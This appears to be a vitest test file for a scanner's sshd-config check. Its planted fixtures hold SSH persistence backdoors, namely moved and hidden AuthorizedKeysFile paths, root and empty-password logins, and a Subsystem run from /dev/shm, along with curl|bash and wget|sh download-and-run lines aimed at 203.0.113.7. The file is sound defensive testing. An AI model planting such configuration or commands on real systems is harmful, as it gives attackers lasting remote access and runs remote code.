/**
 * The sshd-config check on planted trees: AuthorizedKeysFile moved to a temporary, a
 * hidden and a shared path (and the keys in those files read and reported), an
 * unpackaged AuthorizedKeysCommand, a downloading ForceCommand inside a Match block, a
 * Subsystem started from /dev/shm,
 * empty passwords and root password logins, an Include loop; a central key directory and
 * Debian's stock file stay below medium; hostile files end quickly.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { keyFileTargets, parseSshdConfig, sshdConfigCheck } from '../../src/checks/sshd-config.js';
import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { findingSummary, unfilledTemplates } from '../helpers/findings.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { junkBytes, put } from '../helpers/planted-tree.js';

const run = promisify(execFile);

/** Debian bookworm's sshd_config without its comment lines (they change nothing). */
const STOCK = [
  '# This is the sshd server system-wide configuration file.',
  'Include /etc/ssh/sshd_config.d/*.conf',
  '#PermitRootLogin prohibit-password',
  '#AuthorizedKeysFile\t.ssh/authorized_keys .ssh/authorized_keys2',
  '#PasswordAuthentication yes',
  '#PermitEmptyPasswords no',
  'KbdInteractiveAuthentication no',
  'UsePAM yes',
  'X11Forwarding yes',
  'PrintMotd no',
  'AcceptEnv LANG LC_*',
  'Subsystem\tsftp\t/usr/lib/openssh/sftp-server',
  '',
].join('\n');
const PASSWD = 'root:x:0:0:root:/root:/bin/bash\nadmin:x:1000:1000:Admin:/home/admin:/bin/bash\n';

describe('sshd-config check', () => {
  let scratch: string;
  let infected: string;
  let clean: string;
  let hostile: string;
  let key: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-sshd-');
    infected = path.join(scratch, 'infected');
    clean = path.join(scratch, 'clean');
    hostile = path.join(scratch, 'hostile');
    await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'x@kit', '-f', path.join(scratch, 'k')]);
    key = (await readFile(path.join(scratch, 'k.pub'), 'utf8')).trim();

    for (const root of [infected, clean]) {
      await put(root, 'etc/ssh/sshd_config', STOCK);
      await put(root, 'etc/passwd', PASSWD);
      await put(root, 'var/lib/dpkg/info/openssh-server.list', '/etc/ssh/sshd_config.d\n/usr/lib/openssh/sftp-server\n/usr/sbin/sshd\n');
      await put(root, 'usr/lib/openssh/sftp-server', 'elf');
    }
    await put(
      infected,
      'etc/ssh/sshd_config.d/10-tuning.conf',
      [
        '# tuning',
        'AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u',
        'PermitRootLogin yes',
        'PermitEmptyPasswords=yes',
        'AuthorizedKeysCommand /usr/local/libexec/keys %u',
        'AuthorizedKeysCommandUser nobody',
        'Match User backup',
        '  AuthorizedKeysFile /usr/share/.cache/keys',
        '  ForceCommand curl -s http://203.0.113.7/x.sh | bash',
        '',
      ].join('\n'),
    );
    await put(infected, 'etc/ssh/sshd_config.d/20-more.conf', 'AuthorizedKeysFile "/etc/keys"\nSubsystem backup /dev/shm/.s/sftp -l INFO\n');
    await put(infected, 'etc/ssh/sshd_config.d/30-loop.conf', 'Include /etc/ssh/sshd_config\n');
    await put(infected, 'usr/local/libexec/keys', '#!/bin/sh\ncat /var/tmp/.k/all\n');
    await put(infected, 'var/tmp/.k/root', `${key}\n`);
    await put(infected, 'usr/share/.cache/keys', `command="wget -q -O- http://203.0.113.7/a | sh" ${key}\n`);
    await put(infected, 'etc/keys', `${key}\n`);

    await put(clean, 'etc/ssh/sshd_config.d/50-central.conf', 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/authorized_keys/%u\nPermitRootLogin yes\nPasswordAuthentication no\n');
    await put(clean, 'etc/ssh/authorized_keys/admin', `${key}\n`);

    await put(hostile, 'etc/passwd', PASSWD);
    await put(hostile, 'etc/ssh/sshd_config', `Include sshd_config.d/*\n${'AuthorizedKeysFile '.repeat(200_000)}\nInclude ${'/a'.repeat(100_000)}\n`);
    const junk = junkBytes(200_000);
    await put(hostile, 'etc/ssh/sshd_config.d/junk', junk);
  });
  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('reports each planted directive once and reads the keys of moved key files', async () => {
    const result = await scanDirectory(infected, [sshdConfigCheck]);
    expect(result.errors).toEqual([]);
    expect(unfilledTemplates(result.findings)).toEqual([]);
    expect(findingSummary(result.findings)).toEqual(
      [
        'high sshd.keys-file-in-temp /etc/ssh/sshd_config.d/10-tuning.conf:2',
        // A drop-in no package owns is someone's change: root's password logins there are medium.
        'medium sshd.root-password-login-changed /etc/ssh/sshd_config.d/10-tuning.conf:3',
        'medium sshd.empty-passwords /etc/ssh/sshd_config.d/10-tuning.conf:4',
        'medium sshd.keys-command-unpackaged /etc/ssh/sshd_config.d/10-tuning.conf:5',
        'high sshd.keys-file-hidden /etc/ssh/sshd_config.d/10-tuning.conf:8',
        'high command.download-and-run /etc/ssh/sshd_config.d/10-tuning.conf:9',
        'high sshd.keys-file-shared /etc/ssh/sshd_config.d/20-more.conf:1',
        'high command.started-from-temp /etc/ssh/sshd_config.d/20-more.conf:2',
        // The keys in the moved files, reported as the ssh-keys check reports them.
        'info ssh.authorized-key /var/tmp/.k/root:1',
        'info ssh.authorized-key /usr/share/.cache/keys:1',
        'high command.download-and-run /usr/share/.cache/keys:1',
        'info ssh.authorized-key /etc/keys:1',
      ].sort(),
    );
    const temp = result.findings.find((f) => f.rule === 'sshd.keys-file-in-temp')!;
    expect(temp.category).toBe('persistence/ssh');
    expect(temp.remediation).toContain("sed -i '2d' /etc/ssh/sshd_config.d/10-tuning.conf   # deletes line 2: AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u");
    expect(temp.remediation).toContain('sshd -t && systemctl reload ssh');
    const force = result.findings.find((f) => f.rule === 'command.download-and-run' && f.path.startsWith('/etc/ssh'))!;
    expect(force.message).toContain('instead of what the user asks');
    const root = result.findings.find((f) => f.rule === 'sshd.root-password-login-changed')!;
    expect(root.message).toContain('PasswordAuthentication yes by default');
    const shared = result.findings.find((f) => f.path === '/etc/keys')!;
    expect(shared.message).toContain('every account accepts');
    const command = result.findings.find((f) => f.rule === 'sshd.keys-command-unpackaged')!;
    expect(command.message).toContain('/usr/local/libexec/keys');
    expect(command.remediation).toContain('rm -f /usr/local/libexec/keys');
  });

  it('parses directives and expands key file tokens as sshd does', () => {
    const ds = parseSshdConfig('Port 22 # comment\nAuthorizedKeysFile=".ssh/a b" x\nMatch User y\n  PasswordAuthentication yes\n', '/etc/ssh/sshd_config', false);
    expect(ds.map((d) => [d.keyword, d.args, d.inMatch])).toEqual([
      ['port', ['22'], false],
      ['authorizedkeysfile', ['.ssh/a b', 'x'], false],
      ['match', ['User', 'y'], true],
      ['passwordauthentication', ['yes'], true],
    ]);
    const homes = [{ path: '/home/a', users: [{ name: 'a', uid: 1000 }] }];
    expect(keyFileTargets('/etc/ssh/keys/%u.%U', homes).map((t) => [t.path, t.home?.path])).toEqual([['/etc/ssh/keys/a.1000', undefined]]);
    expect(keyFileTargets('.keys/k', homes).map((t) => [t.path, t.home?.path])).toEqual([['/home/a/.keys/k', '/home/a']]);
    expect(keyFileTargets('/srv/keys', homes).map((t) => [t.path, t.who])).toEqual([['/srv/keys', 'every account']]);
  });

  it('keeps a central key directory and Debian stock below medium', async () => {
    const result = await scanDirectory(clean, [sshdConfigCheck]);
    expect(result.errors).toEqual([]);
    expect(findingSummary(result.findings)).toEqual(['low sshd.keys-file-moved /etc/ssh/sshd_config.d/50-central.conf:1', 'info ssh.authorized-key /etc/ssh/authorized_keys/admin:1'].sort());
  });

  it('reads hostile files quickly and bounded', async () => {
    const result = await scanHostile(hostile, [sshdConfigCheck], { maxOperations: 100 });
    expect(result.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
  });
});
